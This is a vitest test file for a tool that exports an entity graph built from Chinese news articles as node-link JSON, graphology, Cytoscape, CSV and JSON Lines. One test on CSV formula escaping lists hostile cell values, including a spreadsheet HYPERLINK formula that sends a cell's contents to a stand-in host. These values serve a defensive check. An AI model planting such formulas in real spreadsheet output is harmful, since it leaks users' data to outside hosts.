import { readFileSync } from "node:fs";
import { resolve } from "node:path";
import { describe, expect, it } from "vitest";
import { extract } from "../../../src/extract.js";
import { toCsv, toCytoscape, toGraphology, toJsonLines, toNodeLink } from "../../../src/outputs/export/index.js";
import { FIXTURE_TEXT, fixtureGraph } from "../render-html/fixture-graph.js";

/** An RFC 4180 reader, strict about quotes, to check what spreadsheets and pandas will read. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), (i += 2);
      else if (c === '"') (quoted = false), i++;
      else (cell += c), i++;
    } else if (c === '"' && cell === "") (quoted = true), i++;
    else if (c === ",") row.push(cell), (cell = ""), i++;
    else if (c === "\r" && text[i + 1] === "\n") row.push(cell), rows.push(row), (row = []), (cell = ""), (i += 2);
    else if (c === '"' || c === "\n" || c === "\r") throw new Error(`bare ${JSON.stringify(c)} at ${i}`);
    else (cell += c), i++;
  }
  if (cell !== "" || row.length > 0) throw new Error("last row lacks CRLF");
  return rows;
}

const graph = fixtureGraph();

describe("toNodeLink", () => {
  const { nodes, edges } = toNodeLink(graph);

  it("has a node per article, person, organization, role and date, keyed by the graph's ids", () => {
    expect(nodes.map((n) => `${n.key}:${n.attributes.type}:${n.attributes.label}`)).toEqual([
      "a1:article:清河新区召开<安全>生产会议",
      "p1:person:林晓东",
      "p2:person:周明远",
      "o1:organization:区应急管理局",
      "r1:role:区应急管理局局长",
      "d1:date:3月20日上午",
    ]);
    expect(nodes.find((n) => n.key === "d1")?.attributes).toMatchObject({ value: "2026-03-20", granularity: "part-of-day" });
  });

  it("gives a role node the count of places it is written, as persons and organizations have", () => {
    const roles = (text: string) => toNodeLink(extract(text)).nodes.filter((n) => n.attributes.type === "role").map((n) => [n.attributes.title, n.attributes.mentions]);
    expect(roles("习近平总书记强调，要坚持。总书记习近平指出，必须改革。习近平总书记说。")).toEqual([["总书记", 3]]);
    expect(roles("市长李明出席，市长王刚主持。")).toEqual([["市长", 1], ["市长", 1]]);
  });

  it("links them: holds, at, credited, mentioned-in, in", () => {
    expect(edges.map((e) => `${e.source} -${e.attributes.type}-> ${e.target}`)).toEqual([
      "p1 -mentioned-in-> a1",
      "p2 -mentioned-in-> a1",
      "o1 -mentioned-in-> a1",
      "p2 -holds-> r1",
      "r1 -at-> o1",
      "p1 -credited-> a1",
      "d1 -in-> a1",
    ]);
    expect(edges.find((e) => e.attributes.type === "credited")?.attributes).toEqual({
      type: "credited", kind: "reporter", marker: "记者", affiliation: "本报", scope: "article", rule: "opener",
    });
  });

  it("on a real page: unique keys, every edge between existing nodes, only scalar attributes", () => {
    const text = readFileSync(resolve(__dirname, "../../../examples/sample-page.txt"), "utf8");
    const real = toNodeLink(extract(text, { referenceDate: "2026-03-21" }));
    const keys = new Set(real.nodes.map((n) => n.key));
    expect(keys.size).toBe(real.nodes.length);
    expect(new Set(real.edges.map((e) => e.key)).size).toBe(real.edges.length);
    for (const e of real.edges) {
      expect(keys.has(e.source) && keys.has(e.target), `${e.key}: ${e.source} -> ${e.target}`).toBe(true);
      expect(e.source).not.toBe(e.target);
    }
    for (const item of [...real.nodes, ...real.edges]) for (const v of Object.values(item.attributes)) expect(["string", "number", "boolean"]).toContain(v === null ? "string" : typeof v);
    // A column's pieces are chained in page order.
    const columns = real.edges.filter((e) => e.attributes.type === "in-column");
    expect(columns.length).toBe(real.nodes.filter((n) => n.attributes.columnId).length - new Set(real.nodes.map((n) => n.attributes.columnId).filter(Boolean)).size);
  });
});

describe("toGraphology and toCytoscape", () => {
  it("write graphology's serialisation format: a directed multigraph", () => {
    const data = JSON.parse(JSON.stringify(toGraphology(graph)));
    expect(data.options).toEqual({ type: "directed", multi: true, allowSelfLoops: false });
    expect(data.attributes).toEqual({ schemaVersion: graph.schemaVersion, referenceDate: "2026-03-21" });
    expect(data.nodes[0]).toEqual({ key: "a1", attributes: expect.objectContaining({ type: "article" }) });
    expect(Object.keys(data.edges[0]).sort()).toEqual(["attributes", "key", "source", "target"]);
  });

  it("write Cytoscape elements: data with id, and source and target on edges", () => {
    const { nodes, edges } = toCytoscape(graph);
    expect(nodes.map((n) => n.data.id)).toEqual(["a1", "p1", "p2", "o1", "r1", "d1"]);
    expect(nodes[1]).toEqual({ data: { id: "p1", type: "person", label: "林晓东", name: "林晓东", mentions: 1 } });
    expect(edges.find((e) => e.data.type === "at")).toEqual({ data: { id: "r1:at", type: "at", source: "r1", target: "o1" } });
  });
});

describe("toCsv", () => {
  const tables = toCsv(graph);

  it("writes one RFC 4180 table per collection, with a header even when empty", () => {
    expect(Object.keys(tables)).toEqual(["articles", "persons", "organizations", "mentions", "roles", "credits", "dates", "diagnostics"]);
    expect(readCsv(tables.persons)).toEqual([["id", "name", "mentions"], ["p1", "林晓东", "1"], ["p2", "周明远", "1"]]);
    expect(readCsv(toCsv({ ...graph, roles: [] }).roles)).toEqual([["id", "articleId", "personId", "person", "title", "organizationId", "organization", "text", "qualifiers", "start", "end", "rule", "mentions"]]);
  });

  it("flattens spans and references and quotes what needs it", () => {
    const [header, row] = readCsv(tables.roles);
    expect(Object.fromEntries(header!.map((h, i) => [h, row![i]]))).toMatchObject({ person: "周明远", organization: "区应急管理局", start: String(graph.roles[0]!.span.start) });
    const quoted = toCsv({ ...graph, persons: [{ ...graph.persons[0]!, name: '林"晓,东\n' }] }).persons;
    expect(quoted).toContain('"林""晓,东\n"');
    expect(readCsv(quoted)[1]).toEqual(["p1", '林"晓,东\n', "1"]);
    expect(readCsv(tables.mentions).slice(1).map((r) => r.slice(0, 3).join(" "))).toEqual(["p1 person 林晓东", "p2 person 周明远", "o1 organization 区应急管理局", "r1 role 区应急管理局局长"]);
    expect(readCsv(tables.dates)[1]).toContain("month|day|partOfDay");
    const diagnostics = readCsv(tables.diagnostics);
    expect(diagnostics[1]).toEqual(["test-<note>", "info", 'a diagnostic with <markup> & "quotes"', "", ""]);
  });

  // Issue 18: one person holding one office is one role with a mention per place it is written;
  // the CSV gave the role's first span only, so a spreadsheet lost where else it is written.
  describe("a role written in several places: one row of roles, a row of mentions for each place", () => {
    const mentionRows = (text: string) => readCsv(toCsv(extract(text)).mentions).slice(1).filter((r) => r[1] === "role");
    const roleRows = (text: string) => readCsv(toCsv(extract(text)).roles).slice(1).map((r) => [r[4], r[12]]);

    it("习近平总书记 … 总书记习近平 … 习近平总书记: three mentions, each slicing the text", () => {
      const text = "习近平总书记强调，要坚持。总书记习近平指出，必须改革。习近平总书记说。";
      expect(roleRows(text)).toEqual([["总书记", "3"]]);
      const rows = mentionRows(text);
      expect(rows.map((r) => [r[0], r[2], r[3]])).toEqual([["r1", "总书记", "a1"], ["r1", "总书记", "a1"], ["r1", "总书记", "a1"]]);
      expect(rows.map((r) => text.slice(Number(r[4]), Number(r[5])))).toEqual(["总书记", "总书记", "总书记"]);
      expect(rows.map((r) => Number(r[4]))).toEqual(extract(text).roles[0]!.mentions.map((m) => m.span.start));
      expect(new Set(rows.map((r) => r[4])).size).toBe(3);
    });

    it("a mention written without the organization keeps its own text (清河市市长 … 市长)", () => {
      expect(mentionRows("清河市市长李明出席会议。市长李明说，要办好。").map((r) => r[2])).toEqual(["清河市市长", "市长"]);
    });

    it.each([
      ["two people with one title: two roles, one mention each", "市长李明出席，市长王刚主持。", [["市长", "1"], ["市长", "1"]], ["r1", "r2"]],
      ["two offices of one person: two roles", "市长李明、副市长李明出席。", [["市长", "1"], ["副市长", "1"]], ["r1", "r2"]],
    ])("must not merge %s", (_, text, roles, mentionIds) => {
      expect(roleRows(text)).toEqual(roles);
      expect(mentionRows(text).map((r) => r[0])).toEqual(mentionIds);
    });

    it("a graph of schema 1.1, before roles had mentions, gives its role's one span", () => {
      const { mentions: _, ...old } = graph.roles[0]!;
      const tables = toCsv({ ...graph, roles: [old as (typeof graph.roles)[number]] });
      expect(readCsv(tables.mentions).slice(-1)).toEqual([["r1", "role", "区应急管理局局长", "a1", String(old.span.start), String(old.span.end)]]);
      expect(readCsv(tables.roles)[1]!.at(-1)).toBe("1");
    });
  });

  it("escapes text a spreadsheet would run as a formula, unless asked not to; numbers stay numbers", () => {
    const hostile = ['=HYPERLINK("http://x.example/?"&A1,"点击")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1"];
    for (const name of hostile) {
      const persons = { ...graph, persons: [{ ...graph.persons[0]!, name }] };
      expect(readCsv(toCsv(persons).persons)[1]).toEqual(["p1", `'${name}`, "1"]);
      expect(readCsv(toCsv(persons, { escapeFormulas: false }).persons)[1]).toEqual(["p1", name, "1"]);
    }
    // Harmless starts, and numeric cells (a span offset) are untouched.
    const plain = { ...graph, persons: [{ ...graph.persons[0]!, name: "林=晓东" }] };
    expect(readCsv(toCsv(plain).persons)[1]).toEqual(["p1", "林=晓东", "1"]);
    const [, role] = readCsv(tables.roles);
    expect(role).toContain(String(graph.roles[0]!.span.start));
  });

  it("starts each table with a byte order mark on request, for Excel", () => {
    expect(toCsv(graph, { bom: true }).persons.startsWith("\ufeffid,name,mentions\r\n")).toBe(true);
    expect(tables.persons.startsWith("id,")).toBe(true);
  });
});

describe("toJsonLines", () => {
  it("writes one entity per line with its type, and the page id when given", () => {
    const lines = toJsonLines(graph, "page-1").trimEnd().split("\n").map((l) => JSON.parse(l));
    expect(lines.map((l) => `${l.type}:${l.id ?? l.code}`)).toEqual(["article:a1", "person:p1", "person:p2", "organization:o1", "role:r1", "credit:c1", "date:d1", "diagnostic:test-<note>"]);
    expect(lines.every((l) => l.pageId === "page-1")).toBe(true);
    const { type, pageId, ...person } = lines[1];
    expect(person).toEqual(graph.persons[0]);
    expect(toJsonLines(graph)).not.toContain("pageId");
  });

  it("keeps a date's own type (date, time, duration, set) as dateType: type names the collection", () => {
    const line = JSON.parse(toJsonLines(graph).split("\n").find((l) => l.includes('"id":"d1"'))!);
    expect(line.type).toBe("date");
    expect(line.dateType).toBe(graph.dates[0]!.type);
  });

  it("does not mutate the graph, nor do the other exporters", () => {
    const before = structuredClone(graph);
    toJsonLines(graph);
    toCsv(graph);
    toGraphology(graph);
    toCytoscape(graph);
    expect(graph).toEqual(before);
    expect(FIXTURE_TEXT.length).toBe(graph.input.length);
  });
});
